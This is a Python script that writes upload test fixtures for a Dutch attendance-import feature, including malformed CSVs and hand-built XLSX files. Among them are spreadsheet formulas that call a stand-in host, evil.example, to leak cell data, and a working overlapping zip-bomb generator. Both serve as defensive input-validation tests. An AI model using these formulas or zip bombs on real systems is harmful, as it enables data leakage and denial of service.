"""Writes the attendance upload test files in this directory (the bytes are committed, so others
can reuse them; run again only to change them): ``.venv/bin/python tests/attendance/files/make_files.py``.

XLSX files are written by hand (a few XML parts in a zip) so a formula cell can carry a cached
value, exactly as Excel stores it, and no spreadsheet library is needed.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
HEADER = "deelnemernummer;datum;dagdeel;geplande_minuten;aanwezige_minuten;status;reden;huiswerkklas;opmerking"
ZIP_TIME = (2026, 1, 1, 0, 0, 0)


# --- XLSX ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Formula:
    """A formula cell as Excel stores it: the formula text and the value it had when saved."""

    text: str
    cached: object = None


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Aanwezigheid" sheetId="1" r:id="rId1"/>'
    '<sheet name="Toelichting" sheetId="2" r:id="rId4"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId4" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet2.xml"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/>'
    '<Relationship Id="rId3" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
    'Target="styles.xml"/></Relationships>'
)
# Style 1 is a date (number format 14, d-m-yyyy), so calamine gives a date for those cells.
STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    "</styleSheet>"
)


def _column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _sheet_xml(rows: list[list], strings: dict[str, int], first_row: int = 1) -> str:
    parts = []
    for offset, row in enumerate(rows):
        number = first_row + offset
        cells = []
        for index, value in enumerate(row):
            ref = f"{_column_letters(index)}{number}"
            if value is None:
                continue
            if isinstance(value, Formula):
                cached = value.cached
                formula = f"<f>{escape(value.text)}</f>"
                if cached is None:
                    cells.append(f'<c r="{ref}">{formula}</c>')
                elif isinstance(cached, str):
                    cells.append(f'<c r="{ref}" t="str">{formula}<v>{escape(cached)}</v></c>')
                else:
                    cells.append(f'<c r="{ref}">{formula}<v>{cached}</v></c>')
            elif isinstance(value, bool):
                cells.append(f'<c r="{ref}" t="b"><v>{int(value)}</v></c>')
            elif isinstance(value, date):
                serial = (value - date(1899, 12, 30)).days
                cells.append(f'<c r="{ref}" s="1"><v>{serial}</v></c>')
            elif isinstance(value, int | float):
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                index_in_table = strings.setdefault(value, len(strings))
                cells.append(f'<c r="{ref}" t="s"><v>{index_in_table}</v></c>')
        parts.append(f'<row r="{number}">{"".join(cells)}</row>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(parts)}</sheetData></worksheet>"
    )


def xlsx_bytes(rows: list[list], *, first_row: int = 1, second_sheet: list[list] | None = None) -> bytes:
    """A minimal but complete workbook: the first sheet holds `rows` from `first_row` on."""
    import io

    strings: dict[str, int] = {}
    sheet1 = _sheet_xml(rows, strings, first_row)
    sheet2 = _sheet_xml(second_sheet or [["Dit blad wordt niet gelezen"]], strings)
    shared = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{len(strings)}" '
        f'uniqueCount="{len(strings)}">'
        + "".join(f'<si><t xml:space="preserve">{escape(text)}</t></si>' for text in strings)
        + "</sst>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/styles.xml", STYLES),
            ("xl/sharedStrings.xml", shared),
            ("xl/worksheets/sheet1.xml", sheet1),
            ("xl/worksheets/sheet2.xml", sheet2),
        ):
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, text)
    return buffer.getvalue()


def overlapping_zip_bomb(entries: int = 130, entry_bytes: int = 4 * 1024 * 1024) -> bytes:
    """An XLSX-looking zip whose sheet entries all point at one deflated block of zeros
    (a non-recursive "overlapping" zip bomb): about 13 KB on disk, claiming entries * entry_bytes
    (520 MB by default) uncompressed."""
    small = [
        ("[Content_Types].xml", CONTENT_TYPES.encode()),
        ("_rels/.rels", ROOT_RELS.encode()),
        ("xl/workbook.xml", WORKBOOK.encode()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.encode()),
    ]
    out = bytearray()
    central = bytearray()
    count = 0

    def local(name: bytes, method: int, crc: int, packed: bytes, size: int) -> int:
        offset = len(out)
        out.extend(
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x5C21, crc, len(packed), size, len(name), 0)
        )
        out.extend(name)
        out.extend(packed)
        return offset

    def directory(name: bytes, method: int, crc: int, packed_size: int, size: int, offset: int) -> None:
        nonlocal count
        central.extend(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0x5C21,
                crc,
                packed_size,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.extend(name)
        count += 1

    for name, data in small:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = compressor.compress(data) + compressor.flush()
        crc = zlib.crc32(data)
        offset = local(name.encode(), 8, crc, packed, len(data))
        directory(name.encode(), 8, crc, len(packed), len(data), offset)

    zeros = bytes(entry_bytes)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = compressor.compress(zeros) + compressor.flush()
    crc = zlib.crc32(zeros)
    first = b"xl/worksheets/sheet1.xml"
    offset = local(first, 8, crc, packed, entry_bytes)
    for number in range(1, entries + 1):
        directory(f"xl/worksheets/sheet{number}.xml".encode(), 8, crc, len(packed), entry_bytes, offset)

    start = len(out)
    out.extend(central)
    out.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0))
    return bytes(out)


# --- the files --------------------------------------------------------------------------------------

ROWS = [
    "AB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;",
    'AB12CD;2-3-2026;middag;180;0;afwezig;ziek;nee;Belde om 8 uur af, komt "morgen"',
    "EF34GH;2026-03-03;avond;120;90;aanwezig;;ja;Huiswerkklas; inhalen van 2 maart",
    "EF34GH;04-03-2026;ochtend;180;0;vervallen;;;Docent ziek",
]


def csv_text(delimiter: str, rows=ROWS, header=HEADER) -> str:
    """The rows with `delimiter`; a field containing the delimiter gets quotes."""
    lines = []
    for line in [header, *rows]:
        fields = line.split(";", 8)  # the note (last) may contain ";"
        quoted = [
            '"' + field.replace('"', '""') + '"' if delimiter in field or '"' in field else field for field in fields
        ]
        lines.append(delimiter.join(quoted))
    return "\r\n".join(lines) + "\r\n"


def write_all() -> None:
    def put(name: str, data: bytes) -> None:
        (HERE / name).write_bytes(data)

    put("utf8_bom_semicolon.csv", b"\xef\xbb\xbf" + csv_text(";").encode("utf-8"))
    put("utf8_comma.csv", csv_text(",").encode("utf-8"))
    put("tab_separated.txt", csv_text("\t").encode("utf-8"))
    put(
        "windows1252.csv",
        (HEADER + "\r\nAB12CD;02-03-2026;ochtend;180;0;afwezig;anders;nee;Café gesloten, €5 boete betaald\r\n").encode(
            "cp1252"
        ),
    )
    put(
        "hours_decimal_comma.csv",
        (
            b"deelnemernummer;datum;dagdeel;geplande_uren;aanwezige_uren;status;reden;huiswerkklas;opmerking\r\n"
            b"AB12CD;02-03-2026;ochtend;2,5;2,5;aanwezig;;nee;\r\n"
            b"AB12CD;03-03-2026;ochtend;3;1,75;aanwezig;;nee;\r\n"
            b"AB12CD;04-03-2026;ochtend;3.0;0;afwezig;ziek;nee;\r\n"
            b"AB12CD;05-03-2026;ochtend;2,5;1,33;aanwezig;;nee;\r\n"
        ),
    )
    put(
        "english_headers.csv",
        (
            b"Learner Number,Date,Day-Part,Scheduled_Minutes,ATTENDED MINUTES,Status,Reason,Homework,Note,Teacher\r\n"
            b"AB12CD,02-03-2026,Ochtend,180,180,Aanwezig,,no,,Jansen\r\n"
            b'EF34GH,2026-03-02,MIDDAG,180,60,afwezig,Werk,yes,"late, train",De Vries\r\n'
        ),
    )
    put(
        "truncated.csv",
        (HEADER + "\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;\r\nEF34GH;03-03-2026;ocht").encode("utf-8"),
    )
    put(
        "truncated_quote.csv",
        (
            HEADER + "\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;"
            '\r\nEF34GH;03-03-2026;ochtend;180;0;afwezig;ziek;nee;"Belde'
        ).encode("utf-8"),
    )
    put("empty.csv", b"")
    put("whitespace_only.csv", b"  \r\n\t\r\n   \r\n")
    put("header_only.csv", (HEADER + "\r\n").encode("utf-8"))
    put("wrong_headers.csv", b"naam;dag;uren;aanwezig\r\nJan;maandag;3;ja\r\n")
    put(
        "fake_pdf.csv",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    )
    put("binary_garbage.csv", bytes(range(256)) * 4)
    put(
        "duplicate_lesson.csv",
        (
            HEADER + "\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;\r\n"
            "AB12CD;02-03-2026;ochtend;180;0;afwezig;ziek;nee;tweede keer\r\n"
        ).encode("utf-8"),
    )
    put(
        "row_errors.csv",
        (
            HEADER + "\r\n"
            "AB12CD;31-02-2026;ochtend;180;180;aanwezig;;nee;\r\n"  # 2: impossible date
            ";02/03/2026;nacht;180;200;aanwezig;;nee;\r\n"  # 3: no learner, bad date, daypart, attended > scheduled
            "AB12CD;01-07-2026;ochtend;180;180;aanwezig;;nee;\r\n"  # 4: in the future
            "AB12CD;02-03-2026;ochtend;-30;abc;weg;griep;misschien;\r\n"  # 5: negative, not a number, status...
            "AB12CD;02-03-2026;ochtend;90,0;60;vervallen;;nee;\r\n"  # 6: minutes with decimals, cancelled + attended
            "AB12CD;02-03-2026;ochtend;180;0;afwezig;;nee;" + "x" * 501 + "\r\n"  # 7: note too long
            "AB12CD;03-03-2026;middag;180\r\n"  # 8: too few fields
            "AB12CD;04-03-2026;middag;180;180;aanwezig;;nee;;extra\r\n"  # 9: a value past the header
            "  AB12CD ; 05-03-2026 ; Middag ;0180; 0 ; AFWEZIG ; Ziek ; J ;  spaties  \r\n"  # 10: fine
        ).encode("utf-8"),
    )

    put(
        "attendance.xlsx",
        xlsx_bytes(
            [
                HEADER.split(";"),
                ["AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", None, "nee", None],
                ["AB12CD", "02-03-2026", "middag", 180.0, 0, "afwezig", "ziek", False, "Belde af"],
                [123456, date(2026, 3, 3), "avond", 120, 90, "aanwezig", None, True, 42],
                [None] * 9,
                ["EF34GH", date(2026, 3, 4), "ochtend", 180, 90.5, "aanwezig", None, "ja", None],
            ]
        ),
    )
    put(
        "formula.xlsx",
        xlsx_bytes(
            [
                HEADER.split(";"),
                # opmerking is the formula =1+1; only its cached value 2 is read.
                ["AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", None, "nee", Formula("1+1", 2)],
                # a text cell that looks like a formula: stays text, nothing is evaluated.
                [
                    "AB12CD",
                    date(2026, 3, 3),
                    "ochtend",
                    180,
                    Formula("D3", 180),
                    "aanwezig",
                    None,
                    "nee",
                    '=HYPERLINK("http://evil.example/?"&A3,"klik")',
                ],
                # formulas that were never calculated (no cached value) and one returning text.
                [
                    "AB12CD",
                    date(2026, 3, 4),
                    "ochtend",
                    180,
                    0,
                    Formula('IF(1=1,"afwezig","aanwezig")', "afwezig"),
                    None,
                    "nee",
                    Formula('WEBSERVICE("http://evil.example/")'),
                ],
                ["AB12CD", date(2026, 3, 5), "ochtend", 180, 0, "afwezig", None, "nee", "+SUM(1,2)"],
            ]
        ),
    )
    put("zip_bomb.xlsx", overlapping_zip_bomb())


if __name__ == "__main__":
    write_all()
    print("written to", HERE)
